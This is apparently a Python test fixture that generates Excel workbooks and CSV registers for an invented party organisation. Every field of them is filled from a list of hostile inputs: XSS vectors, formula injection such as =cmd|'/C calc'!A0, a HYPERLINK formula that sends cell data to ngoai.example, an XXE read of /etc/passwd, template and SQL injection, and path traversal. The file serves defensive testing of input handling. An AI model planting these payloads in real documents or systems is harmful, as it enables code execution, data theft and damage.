"""A made-up bloc in whose workbooks, register and decisions every text is an attempt to do something."""

from __future__ import annotations

import csv
import re
from collections import Counter
from collections.abc import Callable
from pathlib import Path

from openpyxl import Workbook
from openpyxl.comments import Comment

from analysis.office.template import layout
from analysis.pipeline.checked import load_reference
from analysis.reference.load import Reference
from analysis.text.plain import clean

# each tries to do one thing: run in a browser, ask something of the net, be markup or a formula, or break what is written
PAYLOADS = [
    "<script>window.hit=1</script>",
    "<ScRiPt src=//ngoai.example/a.js></sCrIpT>",
    "</script><script>window.hit=2</script>",
    "<img src=x onerror=window.hit=3>",
    '"><img src=x onerror=window.hit=4>',
    "' onmouseover='window.hit=5' autofocus onfocus='window.hit=5",
    '" onfocus=window.hit=6 autofocus tabindex=1 x="',
    "<svg onload=window.hit=7>",
    "<svg><animate onbegin=window.hit=8 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.hit=9</script>'></iframe>",
    '<a href="javascript:window.hit=10">bấm vào đây</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">tệp</a>',
    "<img src='http://ngoai.example/a.png'>",
    "<style>@import url(//ngoai.example/a.css)</style>",
    '</style><p style="background:url(//ngoai.example/b)">x</p>',
    '<p style="font-size:99px; fill: red">to</p>',
    "<base href=//ngoai.example/><meta http-equiv=refresh content='0;url=//ngoai.example'>",
    "<form action=//ngoai.example><button>gửi</button></form>",
    "<math><mtext></p><img src=x onerror=window.hit=11></math>",
    "</title></textarea></noscript><script>window.hit=12</script>",
    "</td></tr></table></div></main><h1>Đã sửa</h1>",
    "<!--><script>window.hit=13</script>-->",
    "--><script>window.hit=14</script><!--",
    "]]><script>window.hit=15</script><![CDATA[",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
    "&lt;script&gt;window.hit=16&lt;/script&gt;",
    "&#60;img src=x onerror=window.hit=17&#62; &amp;lt;b&amp;gt;",
    "＜script＞window.hit=18＜／script＞",
    "{{ 7*7 }}{{ ''.__class__.__mro__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}{# a #}",
    "${7*7} #{7*7} <%= 7*7 %> %(x)s {0} {x!r}",
    "[bấm](javascript:window.hit=19) ![ảnh](http://ngoai.example/c.png) **đậm** # mục",
    "$\\href{javascript:window.hit=20}{x}$ \\(\\frac{1}{\\) $\\frac{$",
    "a $ b $ c",
    '=HYPERLINK("http://ngoai.example/?"&A1,"bấm")',
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+9)*cmd|'/C calc'!A0",
    "\t=1+1",
    "_x000D_=1+1",
    "＝1+1",
    "Do bận;=cmd|'/C calc'!A0;x",
    'Do bận\n=WEBSERVICE("http://ngoai.example")',
    '"\n=1+1,"x",\r\n\'=1+1',
    "'=1+1",
    "#REF!",
    "_x0000_a_xD800_b_x001B_[2J_x0007__xFFFE_\u202exslx.cod\u202c\u2066\u200b",
    "`\"'\\; DROP TABLE observations; --",
    "../../../etc/passwd\\..\\..\\a",
    "".join(f"{i * 7919 % 10007:x}ầ" for i in range(600)),
]

TARGETS = ["1a", "1b", "2a", "2b", "3", "4", "5", "6a", "6b", "7a", "7b"]
SHORT = ("limitation", "cause", "remedy")
COUNTS = {
    "members": 20,
    "members_due_to_study": 20,
    "members_studied": 19,
    "cells": 4,
    "cells_meeting_good": 3,
    "cells_meeting_fair": 1,
    "cells_thematic": 4,
    "cells_thematic_every_quarter": 4,
    "committee_members": 5,
    "committee_members_trained": 4,
    "members_graded": 20,
    "members_excellent": 3,
    "members_good": 15,
    "members_satisfactory": 2,
}
FLAGS = {"resolution_issued": "Có"}


def meant(payload: str) -> str:
    """What a reader of the workbook sees of it."""
    return clean(re.sub("_x([0-9A-F]{4})_", lambda m: chr(int(m[1], 16)), payload))


def identity(n: int) -> str:
    return f"P{n:02d}"


def name(n: int) -> str:
    """The register's name of the organisation that sends payload `n`."""
    return f"{meant(PAYLOADS[n])[:150]} Sở {n}"


def words(n: int, what: str) -> str:
    """Payload `n` as one text among others: it begins the text, and the text is its own."""
    return f"{PAYLOADS[n][:32_000]} {what} {n}"


def write_reference(folder: Path) -> Reference:
    """The office's own files: register, other names, events, receipts, corrections, decisions on causes."""
    folder.mkdir(parents=True)
    ids = range(len(PAYLOADS))
    kinds, sectors = ("committee", "cell"), ("party", "state", "soe", "private")
    files = {
        "organisations": ["organisation name kind sector founded dissolved"]
        + [(identity(n), name(n), kinds[n % 2], sectors[n % 4], "2021-01-01", "") for n in ids],
        "aliases": ["alias organisation"]
        + [(words(n, "còn gọi")[:300], identity(n)) for n in ids if n != 39],
        "events": ["date event predecessor successor decision"]
        + [("2021-01-01", "founded", "", identity(n), words(n, "QĐ")[:300]) for n in ids],
        "deadlines": ["year due", *((str(y), f"{y + 1}-01-15") for y in range(2021, 2026))],
        "corrections": ["file sheet cell found value reason by on"]
        + [
            (
                f"2022/{identity(n)}.xlsx",
                "Biểu 1",
                "C13",
                meant(PAYLOADS[n]),
                "20",
                words(n, "lý do"),
                words(n, "ai")[:200],
                "2023-01-02",
            )
            for n in ids
            if n % 2
        ],
        "cause_reviews": ["organisation year target text decision by on settles note"]
        + [
            (
                identity(n),
                "2021",
                "3",
                meant(words((n + 4) % len(PAYLOADS), f"cause 3 {identity(n)}")),
                "A1:subjective",
                words(n, "ai")[:200],
                "2022-02-01",
                "",
                words(n, "ghi chú"),
            )
            for n in ids
            if n % 3 == 0
        ],
    }
    for file, (head, *rows) in files.items():
        with open(folder / f"{file}.csv", "w", encoding="utf-8", newline="") as out:
            csv.writer(out, lineterminator="\n").writerows([head.split(), *rows])
    return load_reference(folder)


def write_raw(folder: Path, reference: Reference) -> Counter:
    """All workbooks; gives how often each kind of field carries each payload."""
    seen: Counter = Counter()
    for n, payload in enumerate(PAYLOADS):
        for year, form, what in (
            (2021, "PL1-2021", _free),
            (2022, "PL1-2021", _figures),
            (2025, "PL1-2025", _structure),
        ):
            _return(
                folder / str(year) / f"{identity(n)}.xlsx", form, year, n, what, reference, seen
            )
        _return(folder / "2025" / _file(payload), "PL1-2025", 2025, n, _all, reference, seen)
        _return(
            folder / "2022" / "Lạ" / f"{identity(n)} {_file(payload)}",
            "PL1-2021",
            2022,
            n,
            _stranger,
            reference,
            seen,
        )
    _list(folder / "2023" / "Tong hop.xlsx", "TH-2023", 2023, reference, seen)
    for year in (2021, 2023, 2025):
        _list(folder / str(year) / "QD.xlsx", "QD-XL", year, reference, seen)
    return seen


def _file(payload: str) -> str:
    """The payload as the name of a file, as far as a file may be called so."""
    plain = re.sub(
        "_x([0-9A-F]{4})_",
        lambda m: chr(int(m[1], 16)) if m[1] not in ("0000", "D800") else "",
        payload,
    )
    return plain.replace("/", "\u2215").encode()[:180].decode(errors="ignore") + ".xlsx"


def _return(
    path: Path, form: str, year: int, n: int, what: Callable, reference: Reference, seen: Counter
) -> None:
    spots = layout(form, year, reference, identity(n))
    for spot in spots:
        spot.value = _plain(spot, n)
    _save(path, spots, lambda spot: what(spot, n), seen, n)


def _list(path: Path, form: str, year: int, reference: Reference, seen: Counter) -> None:
    rows = {"shortfalls": [f"{identity(n)}/{t}" for n in range(len(PAYLOADS)) for t in ("3", "4")]}
    spots = (
        layout(form, year, reference, rows=None)
        if form == "QD-XL"
        else layout(form, year, reference, rows=_rows(form, reference, rows))
    )

    def what(spot) -> str | None:
        n = _owner(spot)
        if n is None or spot.role not in ("entry", "derived"):
            return None
        if spot.type in ("remark", *SHORT):
            return words(n, f"{spot.type} {spot.id.partition('/')[2].partition(':')[0]}")
        return (
            PAYLOADS[n]
            if spot.type in ("count", "flag", "grade", "percent") and n % 3 == 0
            else None
        )

    for spot in spots:
        spot.value = _plain(spot, _owner(spot))
    _save(path, spots, what, seen, None)


def _rows(form: str, reference: Reference, own: dict) -> dict:
    lists = reference.forms[
        (reference.forms["form"] == form) & (reference.forms["kind"] == "block")
    ]
    everybody = list(reference.organisations["organisation"])
    return {
        b["block"]: own["shortfalls"] if b["measure"] == "shortfall" else everybody
        for b in lists.to_dict("records")
    }


def _owner(spot) -> int | None:
    found = re.match(r"P(\d+)[/:]", spot.id)
    return int(found[1]) if found else None


def _plain(spot, n: int | None) -> object:
    """A sound value for an entry, what is printed for all else."""
    if spot.role != "entry" or n is None:
        return spot.value
    return {
        "count": lambda: COUNTS.get(spot.measure, 0),
        "flag": lambda: FLAGS.get(spot.measure, "Tốt"),
        "grade": lambda: "Hoàn thành tốt nhiệm vụ",
        "organisation": lambda: name(n),
        "points": lambda: 10,
        "target": lambda: spot.value or "Chỉ tiêu 3",
        "sector": lambda: "Khác",
    }.get(spot.type, lambda: spot.value)()


def _free(spot, n: int) -> str | None:
    """Texts that a sender is free to word; each shortfall carries the next payload."""
    if spot.role in ("letterhead", "subtitle", "signature") or (
        spot.role == "entry" and spot.type in ("remark", "person")
    ):
        return words(n, f"{spot.type or spot.role} {spot.id.partition(':')[0]}")
    if spot.role == "entry" and spot.type in SHORT:
        target = spot.id.partition(":")[0]
        return words(
            (n + TARGETS.index(target)) % len(PAYLOADS), f"{spot.type} {target} {identity(n)}"
        )
    return f"{spot.value} {PAYLOADS[n][:300]}" if spot.role == "note" else None


def _figures(spot, n: int) -> str | None:
    """Numbers, rates, yes and no."""
    return (
        PAYLOADS[n]
        if spot.type in ("count", "flag", "percent", "fraction", "points", "sum")
        and spot.role in ("entry", "derived", "total")
        else None
    )


def _structure(spot, n: int) -> str | None:
    """Behind the printed words: labels of one organisation, titles of the next, headings of the third."""
    roles = (("label", "section"), ("title", "band", "number"), ("heading",))[n % 3]
    if (spot.role in roles and spot.value is not None) or (
        spot.type == "target" and spot.role == "entry"
    ):
        return f"{spot.value} {PAYLOADS[n][:300]}"
    return (
        words(n, f"2025 {spot.type} {spot.id.partition(':')[0]}")
        if spot.type in SHORT and spot.role == "entry"
        else None
    )


def _stranger(spot, n: int) -> str | None:
    """A name that no organisation has."""
    return f"{PAYLOADS[n]} lạ" if spot.type in ("organisation", "kind", "sector") else None


def _all(spot, n: int) -> str:
    return PAYLOADS[n]


def _save(path: Path, spots: list, what: Callable, seen: Counter, n: int | None) -> None:
    """Write the printed words, and instead of them what `what` says."""
    payload = "" if n is None else PAYLOADS[n]
    book, sheets = Workbook(), {}
    book.remove(book.active)
    for spot in spots:
        if spot.sheet not in sheets:
            sheets[spot.sheet] = book.create_sheet(
                _sheet_name(payload, spot.sheet) if n is not None and n % 2 else spot.sheet
            )
            seen["sheet name", n] += n is not None and n % 2
        told, cell = what(spot), sheets[spot.sheet].cell(spot.row, spot.column)
        cell.value = spot.value if told is None else told[:32_767]
        if isinstance(cell.value, str):
            cell.data_type = "s"
        if told is not None:
            seen[f"{spot.role} {spot.type}", _owner(spot) if n is None else n] += 1
        if spot.down > 1 or spot.across > 1:
            end = sheets[spot.sheet].cell(spot.row + spot.down - 1, spot.column + spot.across - 1)
            sheets[spot.sheet].merged_cells.add(f"{spot.cell}:{end.coordinate}")
    if n is not None:
        for field in ("title", "creator", "subject", "keywords", "description", "category"):
            setattr(book.properties, field, payload[:200])
        first = book.worksheets[0]
        first["H2"].hyperlink, first["H2"].comment = (
            "javascript:window.hit=90",
            Comment(payload[:900], payload[:50]),
        )
        first.oddFooter.left.text = first.oddHeader.left.text = payload[:60]
        for kind in ("property", "comment", "footer"):
            seen[kind, n] += 1
    path.parent.mkdir(parents=True, exist_ok=True)
    book.save(path)


def _sheet_name(payload: str, name: str) -> str:
    """As much of a payload as a sheet may be called."""
    legal = re.sub(r"[\[\]:*?/\\\t\r\n]|_x[0-9A-F]{4}_", " ", payload).strip(" '")
    return f"{legal[:24]} {name[-5:]}".replace("/", "-")
